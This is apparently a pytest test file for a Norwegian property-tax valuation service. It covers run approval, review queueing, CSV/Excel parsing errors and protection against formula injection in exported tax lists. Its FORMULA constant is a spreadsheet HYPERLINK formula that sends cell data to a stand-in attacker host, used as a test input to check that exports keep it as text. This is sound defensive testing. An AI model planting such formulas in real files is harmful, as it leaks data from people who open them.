"""Issue 13 and 12 for eiendomsskatt: a valuation run is a draft until a person approves it, the tax list
comes only from the approved run and a trial upload never replaces it; any flagged dwelling can be
opened for review, not only the ones queued at valuation; coordinates with a decimal comma are read;
a trailing separator and a damaged .xlsx give a Norwegian error, never a 500 or shifted columns; the
tax list (CSV and Excel) cannot carry a formula."""

from __future__ import annotations

import io
import json
import zipfile
from datetime import date

import pytest
from sqlalchemy import func, select

from kommuneki.core import suggestions
from kommuneki.core.errors import InvalidInput, NotFound
from kommuneki.core.models import AuditEntry, Suggestion
from kommuneki.services.eiendomsskatt import service
from kommuneki.services.eiendomsskatt.engine import demo
from kommuneki.services.eiendomsskatt.engine.mapping import read_table
from kommuneki.services.eiendomsskatt.models import DwellingValuation, ValuationRun

FORMULA = '=HYPERLINK("https://angriper.example/?d="&A1;"Klikk")'


def _value(platform, tid, sales, dwellings, *, max_suggestions=3, sep=","):
    def csv_bytes(df):
        return df.to_csv(index=False, sep=sep, decimal="," if sep == ";" else ".").encode("utf-8")

    return service.value_from_files(
        platform,
        tid,
        sales=csv_bytes(sales),
        sales_name="salg.csv",
        dwellings=csv_bytes(dwellings),
        dwellings_name="boliger.csv",
        mapping_text=json.dumps(demo.DEMO_MAPPING),
        actor="test",
        valuation_date=date(2025, 1, 1),
        max_suggestions=max_suggestions,
    )


@pytest.fixture
def kommune(platform):
    from kommuneki.demo import DEMO_TENANT, _ensure_tenant

    tid = _ensure_tenant(platform, DEMO_TENANT)
    service.set_settings(
        platform, tid, {"promille": 2, "bunnfradrag": 0, "valuation_date": "2025-01-01"}, actor="test"
    )
    sales, dwellings = demo.generate(n_dwellings=150, n_sales=400, seed=11)
    dwellings.loc[0, "matrikkelenhet"] = FORMULA  # an attacker's unit id
    dwellings.loc[1, "bra"] = 800  # far larger than anything sold: flagged
    return platform, tid, sales, dwellings


def test_runs_are_drafts_until_approved_any_flagged_dwelling_opens_and_no_formula_in_the_tax_list(kommune):
    from openpyxl import load_workbook

    platform, tid, sales, dwellings = kommune
    # decimal commas in a semicolon file (as a Norwegian Excel writes CSV): read, not refused
    first = _value(platform, tid, sales, dwellings, sep=";", max_suggestions=1)
    assert first["dwellings"] == 150
    with pytest.raises(NotFound, match="Ingen verdsetting er godkjent"):
        service.export_tax_list(platform, tid, "csv", actor="test")
    summary = service.run_summary(platform, tid)
    assert summary["status"] == "draft"

    # any flagged dwelling opens for review, not only the one queued at valuation
    assert summary["flagged_total"] > 1 and len(summary["flagged"]) == summary["flagged_total"]
    unqueued = [f for f in summary["flagged"] if f["suggestion_id"] is None]
    assert unqueued, "the cap left flagged dwellings out of the queue"
    sid = service.queue_dwelling(platform, tid, unqueued[0]["valuation_id"], actor="takst")
    assert service.queue_dwelling(platform, tid, unqueued[0]["valuation_id"], actor="takst") == sid
    with platform.db.read_session(tid) as s:
        sugg = suggestions.get_suggestion(s, sid)
        assert sugg.status == "pending" and sugg.value["unit_id"] == unqueued[0]["unit_id"]
        assert sugg.item.title == f"Bolig {unqueued[0]['unit_id']}"
        not_flagged = s.scalar(
            select(DwellingValuation.id).where(
                DwellingValuation.run_id == first["run_id"], DwellingValuation.flagged.is_(False)
            )
        )
        n_before = s.scalar(select(func.count()).select_from(Suggestion))
    with pytest.raises(InvalidInput, match="ikke flagget"):
        service.queue_dwelling(platform, tid, not_flagged, actor="takst")
    with platform.db.read_session(tid) as s:
        assert s.scalar(select(func.count()).select_from(Suggestion)) == n_before

    assert service.approve_run(platform, tid, first["run_id"], actor="takst")["done"] == "approved"
    approved_csv = service.export_tax_list(platform, tid, "csv", actor="test")
    # the attacker's unit id is text in both exports, never a formula
    cells = [c for line in approved_csv.decode("utf-8-sig").splitlines() for c in line.split(";")]
    assert any("HYPERLINK" in c for c in cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    xlsx = service.export_tax_list(platform, tid, "xlsx", actor="test")
    sheet = zipfile.ZipFile(io.BytesIO(xlsx)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    ws = load_workbook(io.BytesIO(xlsx)).active
    assert FORMULA in [c.value for c in ws["A"][1:]]  # kept exactly, as text
    assert all(c.data_type == "s" for c in ws["A"][1:] if c.value == FORMULA)

    trial_dwellings = dwellings.copy()
    trial_dwellings["bra"] = trial_dwellings["bra"] * 2  # a trial upload: every value changes
    trial = _value(platform, tid, sales, trial_dwellings, max_suggestions=0)
    summary = service.run_summary(platform, tid)
    assert summary["run_id"] == trial["run_id"] and summary["status"] == "draft"
    assert summary["approved_run_id"] == first["run_id"]
    # the tax list and the dwelling pages still come from the approved run
    assert service.export_tax_list(platform, tid, "csv", actor="test") == approved_csv
    unit = str(dwellings.loc[5, "matrikkelenhet"])
    assert service.dwelling(platform, tid, unit)["run_id"] == first["run_id"]
    assert service.dwelling(platform, tid, unit, trial["run_id"])["run_status"] == "draft"

    res = service.approve_run(platform, tid, trial["run_id"], actor="takst")
    assert res == {"run_id": trial["run_id"], "done": "approved", "replaced": [first["run_id"]]}
    assert service.export_tax_list(platform, tid, "csv", actor="test") != approved_csv
    with pytest.raises(InvalidInput, match="utkast"):
        service.approve_run(platform, tid, first["run_id"], actor="takst")
    with platform.db.read_session(tid) as s:
        statuses = dict(s.execute(select(ValuationRun.id, ValuationRun.status)).all())
        approvals = s.scalars(
            select(AuditEntry).where(AuditEntry.event == "eiendomsskatt.run_approved")
        ).all()
    assert statuses == {first["run_id"]: "superseded", trial["run_id"]: "approved"}
    assert [json.loads(a.data)["run_id"] for a in approvals] == [first["run_id"], trial["run_id"]]


@pytest.mark.parametrize(
    "data, name, expected",
    [
        (b"a;b;c;\n1;2;3;\n4;5;6;\n", "salg.csv", {"a": [1, 4], "b": [2, 5], "c": [3, 6]}),
        (b"a;b;c\n1;2;3;\n4;5;6;\n", "salg.csv", {"a": [1, 4], "b": [2, 5], "c": [3, 6]}),
        (b"a,b,c\n1,2,3,\n", "salg.csv", {"a": [1], "b": [2], "c": [3]}),
        (
            b"unit;lat;lon;pris\nx;59,77226;10,5;4 500 000\ny;59,1;10,2;3 000 000\n",
            "salg.csv",
            {"unit": ["x", "y"], "lat": [59.77226, 59.1], "lon": [10.5, 10.2], "pris": [4500000, 3000000]},
        ),
        (b"gnr;bnr\n12/3;1.234,5\n", "salg.csv", {"gnr": ["12/3"], "bnr": ["1.234,5"]}),
    ],
)
def test_reading_trailing_separators_and_decimal_commas(data, name, expected):
    frame = read_table(data, name)
    assert {c: frame[c].tolist() for c in frame.columns} == expected


@pytest.mark.parametrize(
    "data, name, message",
    [
        (b"PK\x03\x04 not really a zip", "salg.xlsx", "ikke en gyldig Excel-fil"),
        (b"plain text", "salg.xlsx", "ikke en gyldig Excel-fil"),
        (b"", "salg.csv", "filen er tom"),
        (b"a;b\n1;2;3;4\n", "salg.csv", "flere verdier enn overskriftslinjen"),
        (b"\xff\xfe\x00a", "salg.csv", "ikke UTF-8"),
    ],
)
def test_unreadable_files_are_refused_in_norwegian(data, name, message):
    with pytest.raises(InvalidInput, match=message):
        read_table(data, name)


def test_a_truncated_xlsx_is_refused_in_norwegian():
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.append(["salgsdato", "pris"])
    buf = io.BytesIO()
    wb.save(buf)
    for cut in (100, len(buf.getvalue()) // 2, len(buf.getvalue()) - 30):
        with pytest.raises(InvalidInput, match="Excel-fil"):
            read_table(buf.getvalue()[:cut], "salg.xlsx")


def test_cli_value_files_carry_no_formula(tmp_path):
    from click.testing import CliRunner
    from openpyxl import load_workbook

    from kommuneki.cli import main

    sales, dwellings = demo.generate(n_dwellings=60, n_sales=400, seed=12)
    dwellings.loc[0, "matrikkelenhet"] = FORMULA
    (tmp_path / "salg.csv").write_bytes(demo.to_csv_bytes(sales))
    (tmp_path / "boliger.csv").write_bytes(demo.to_csv_bytes(dwellings))
    (tmp_path / "map.json").write_text(json.dumps(demo.DEMO_MAPPING))
    for out in ("verdier.csv", "verdier.xlsx"):
        args = ["--sales", str(tmp_path / "salg.csv"), "--dwellings", str(tmp_path / "boliger.csv")]
        args += ["--mapping", str(tmp_path / "map.json"), "--out", str(tmp_path / out)]
        r = CliRunner().invoke(main, ["eiendomsskatt", "value", *args])
        assert r.exit_code == 0, r.output
    text = (tmp_path / "verdier.csv").read_text(encoding="utf-8")
    assert "'" + FORMULA.replace('"', '""') in text and "\n" + FORMULA[:5] not in text
    ws = load_workbook(tmp_path / "verdier.xlsx").active
    cell = next(c for c in ws["A"] if c.value == FORMULA)
    assert cell.data_type == "s" and cell.quotePrefix


def test_upload_of_a_damaged_xlsx_is_a_norwegian_message_not_a_500(platform):
    from tests.conftest import login_client

    from kommuneki.core import accounts
    from kommuneki.core.models import User
    from kommuneki.demo import DEMO_TENANT, _ensure_tenant
    from kommuneki.web.app import create_app

    tid = _ensure_tenant(platform, DEMO_TENANT)
    with platform.db.installation_session() as s:
        uid = accounts.create_user(s, username="takst2", password="passord-for-test", actor="test").id
    with platform.db.tenant_session(tid) as s:
        accounts.grant_role(s, tid, s.get(User, uid), "eiendomsskatt", actor="test")
    with login_client(create_app(platform=platform), "takst2", "passord-for-test") as c:
        for sales_name, sales_bytes, message in (
            ("salg.xlsx", b"PK\x03\x04 skadet", "ikke en gyldig Excel-fil"),
            ("salg.csv", b"a;b\n1;2;3;4\n", "flere verdier enn overskriftslinjen"),
        ):
            r = c.post(
                "/eiendomsskatt/oppsett",
                files={
                    "salg": (sales_name, sales_bytes, "application/octet-stream"),
                    "boliger": ("boliger.csv", b"lat;lon;bra;\n59,9;10,7;80;\n", "text/csv"),
                },
            )
            assert r.status_code == 200, r.status_code  # after the redirect: the page with the message
            assert message in r.text and 'class="flash error"' in r.text
